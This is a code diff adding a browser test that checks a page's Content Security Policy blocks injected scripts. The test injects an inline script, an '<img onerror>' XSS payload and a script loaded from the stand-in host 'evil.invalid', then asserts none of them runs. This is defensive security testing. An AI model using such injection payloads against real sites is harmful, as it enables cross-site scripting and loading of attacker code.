@@ -176,6 +176,25 @@ class HostileTest {
             .startsWith("application/octet-stream"));
   }
 
+  /** Should an area ever let something through, the policy keeps it from running. */
+  @Test
+  void scriptThatGotIntoAPageWouldNotRun() {
+    Page page = chromium.open("en");
+    page.navigate(desk.address());
+    page.evaluate(
+        "() => { const s = document.createElement('script'); s.textContent = 'hacked = 1';"
+            + " document.body.append(s);"
+            + " document.body.insertAdjacentHTML('beforeend', '<img src=x onerror=hacked=1>');"
+            + " const f = document.createElement('script'); f.src = 'https://evil.invalid/x.js';"
+            + " document.body.append(f); }");
+    page.waitForTimeout(300);
+    assertEquals(true, page.evaluate("() => window.hacked === undefined"));
+    List<String> breaches = chromium.complaints();
+    assertTrue(
+        breaches.stream().filter(line -> line.contains("Content Security Policy")).count() >= 3,
+        breaches.toString());
+  }
+
   @Test
   void whatBrowsersPasteIsReadHarmlessly() {
     Page page = chromium.open("en");
